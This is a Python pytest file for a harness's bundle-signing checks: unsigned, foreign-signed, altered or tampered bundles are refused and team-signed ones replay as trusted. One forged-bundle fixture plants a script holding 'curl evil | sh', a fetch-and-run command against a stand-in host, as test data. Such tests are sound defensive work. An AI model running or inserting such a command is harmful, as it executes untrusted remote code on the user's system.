"""Signed manifests (Ed25519, the `cryptography` package). With the team's public keys in the
engineer's local configuration, replay refuses an unsigned, foreign-signed or altered bundle
(exit 2, before a folder exists) unless --trust; a bundle one of the keys signed replays as
trusted. Without keys, replay warns that the bundle is unverified and runs it as untrusted. A
member whose sha256 differs from the signed manifest is always refused.

No engine here (DOCKER_HOST points nowhere): a bundle that gets past every check ends at exit 3,
"no Docker engine", which is how these tests see it was accepted."""

from __future__ import annotations

import io
import json
import os
import sys
import tarfile
from pathlib import Path

import pytest

from harness.errors import UsageError
from harness.escalation.bundle import SIGNATURE
from harness.escalation.safe_extract import read_head
from harness.escalation.signing import (
    BAD,
    UNCHECKED,
    UNKNOWN_KEY,
    UNSIGNED,
    VERIFIED,
    Signer,
    load_public_keys,
    load_signer,
    verify,
)
from tests.unit.bundle_craft import (
    BASIC,
    PLAYBOOK,
    PLAYBOOK_SCENARIO,
    craft,
    keys,
    local_config,
    manifest_for,
    repack,
    replay,
    tree,
)

Team = tuple[Signer, Path, Path]
PB = {
    **BASIC,
    "bundle/project/scenarios/s.yaml": PLAYBOOK_SCENARIO,
    "bundle/project/playbooks/p.yml": PLAYBOOK,
}


@pytest.fixture
def team(tmp_path: Path) -> Team:
    """The team's key pair, and an engineer's configuration that trusts its public key."""
    signer, pub = keys(tmp_path / "keys")
    return signer, pub, local_config(tmp_path / "cfg", bundle_public_keys=[str(pub)])


def _clean(tmp_path: Path) -> Path:
    d = tmp_path / "clean"
    d.mkdir()
    return d


def test_unsigned_with_keys_configured_is_refused_unless_trust(tmp_path: Path, team: Team) -> None:
    _, _, cfg = team
    clean = _clean(tmp_path)
    bundle = craft(clean / "b.tar.gz")
    p = replay(bundle, clean, "--workdir", "w", config=cfg)
    assert p.returncode == 2, p.stderr
    assert "unsigned: the bundle carries no signature" in p.stderr
    assert f"bundle_public_keys are configured ({cfg})" in p.stderr and "--trust" in p.stderr
    assert tree(clean) == ["b.tar.gz"]  # refused before a folder was made
    p = replay(bundle, clean, "--workdir", "w", "--trust", config=cfg)
    assert p.returncode == 3 and "no Docker engine" in p.stderr, p.stderr
    assert "replayed anyway because of --trust" in p.stderr


def test_a_bundle_signed_by_another_key_is_refused(tmp_path: Path, team: Team) -> None:
    _, _, cfg = team
    stranger, _ = keys(tmp_path / "stranger")
    clean = _clean(tmp_path)
    bundle = craft(clean / "b.tar.gz", signer=stranger)
    p = replay(bundle, clean, "--workdir", "w", config=cfg)
    assert p.returncode == 2, p.stderr
    assert f"unknown key: signed by {stranger.key_id}, which is none of" in p.stderr
    assert tree(clean) == ["b.tar.gz"]


def test_a_manifest_altered_after_signing_is_refused(tmp_path: Path, team: Team) -> None:
    """The attacker edits the signed manifest (a new member and its checksum) and keeps the
    signature: it no longer matches."""
    signer, _, cfg = team
    clean = _clean(tmp_path)
    good = craft(tmp_path / "good.tar.gz", signer=signer)
    files = {**BASIC, "bundle/run/extra.sh": b"curl evil | sh\n"}
    forged = manifest_for(files)
    with tarfile.open(good, "r:gz") as tar:
        sig = (tar.extractfile(SIGNATURE) or io.BytesIO()).read()
    bundle = clean / "b.tar.gz"
    with tarfile.open(bundle, "w:gz") as tar:
        head = json.dumps(forged, indent=2, sort_keys=True).encode() + b"\n"
        for name, data in [("bundle/manifest.json", head), (SIGNATURE, sig), *files.items()]:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tar.addfile(ti, io.BytesIO(data))
    p = replay(bundle, clean, "--workdir", "w", config=cfg)
    assert p.returncode == 2, p.stderr
    assert f"bad signature: the signature by {signer.key_id} does not match" in p.stderr
    assert tree(clean) == ["b.tar.gz"]


@pytest.mark.parametrize("configured", [True, False], ids=["keys", "no-keys"])
def test_a_member_tampered_after_signing_is_always_refused(
    tmp_path: Path, team: Team, configured: bool
) -> None:
    signer, _, cfg = team
    clean = _clean(tmp_path)
    good = craft(tmp_path / "good.tar.gz", signer=signer)
    bundle = repack(good, clean / "b.tar.gz", "bundle/run/journal.json")
    p = replay(bundle, clean, "--workdir", "w", "--trust", config=cfg if configured else None)
    assert p.returncode == 2, p.stderr
    assert "member 'bundle/run/journal.json': checksum mismatch" in p.stderr
    assert tree(clean) == ["b.tar.gz"]  # checked in a scan that writes nothing


def test_a_validly_signed_bundle_replays_as_trusted(tmp_path: Path, team: Team) -> None:
    """Signed by the team's key, its playbook is not refused (the engine is next: exit 3). The
    same bundle unsigned, without keys: a warning, and replayed as untrusted, so the playbook
    is refused, located."""
    signer, _, cfg = team
    clean = _clean(tmp_path)
    signed = craft(clean / "signed.tar.gz", PB, signer=signer)
    p = replay(signed, clean, "--workdir", "w", config=cfg)
    assert p.returncode == 3 and "no Docker engine" in p.stderr, p.stderr
    assert "warning" not in p.stderr and "playbook" not in p.stderr
    unsigned = craft(clean / "unsigned.tar.gz", PB)
    p = replay(unsigned, clean, "--workdir", "w")
    assert p.returncode == 2, p.stderr
    assert "warning: bundle unsigned: its origin is unverified; replayed as untrusted" in p.stderr
    assert "configure playbook 'playbooks/p.yml' would run ansible-playbook" in p.stderr
    # signed, but nothing here to check it with: the same warning, naming the key
    p = replay(signed, clean, "--workdir", "w")
    assert p.returncode == 2, p.stderr
    assert f"signed by {signer.key_id}, but no bundle_public_keys are configured" in p.stderr
    assert tree(clean) == ["signed.tar.gz", "unsigned.tar.gz"]


def test_signing_is_deterministic_and_verify_says_why(tmp_path: Path, team: Team) -> None:
    signer, pub, _ = team
    a = craft(tmp_path / "a.tar.gz", signer=signer)
    b = craft(tmp_path / "b.tar.gz", signer=signer)
    assert a.read_bytes() == b.read_bytes()  # re-escalating gives the same bundle
    head = read_head(a)
    ks = load_public_keys([str(pub)])
    assert verify(head.raw, head.signature, ks).status == VERIFIED
    assert verify(head.raw + b" ", head.signature, ks).status == BAD
    assert verify(head.raw, None, ks).status == UNSIGNED
    assert verify(head.raw, head.signature, []).status == UNCHECKED
    _, other_pub = keys(tmp_path / "o")
    assert verify(head.raw, head.signature, load_public_keys([str(other_pub)])).status == (
        UNKNOWN_KEY
    )
    assert verify(head.raw, b"{not json", ks).status == BAD


def test_keys_must_be_ed25519_pem(tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = rsa_key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    (tmp_path / "rsa.key").write_bytes(pem)
    with pytest.raises(UsageError, match="must be an Ed25519 key"):
        load_signer(tmp_path / "rsa.key")
    (tmp_path / "junk.pub").write_text("hello\n")
    with pytest.raises(UsageError, match="not a PEM public key"):
        load_public_keys([str(tmp_path / "junk.pub")])
    with pytest.raises(UsageError, match="cannot read"):
        load_public_keys([str(tmp_path / "missing.pub")])


def test_lab_keys_generate(tmp_path: Path) -> None:
    import subprocess

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    cmd = [sys.executable, "-m", "harness", "keys", "generate", str(tmp_path / "k"), "--json"]
    p = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    r = json.loads(p.stdout)
    assert (os.stat(r["private"]).st_mode & 0o777) == 0o600
    assert load_signer(r["private"]).key_id == r["key_id"]
    assert load_public_keys([r["public"]])[0].key_id == r["key_id"]
    again = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=60)
    assert again.returncode == 2 and "already exists; not overwriting" in again.stderr
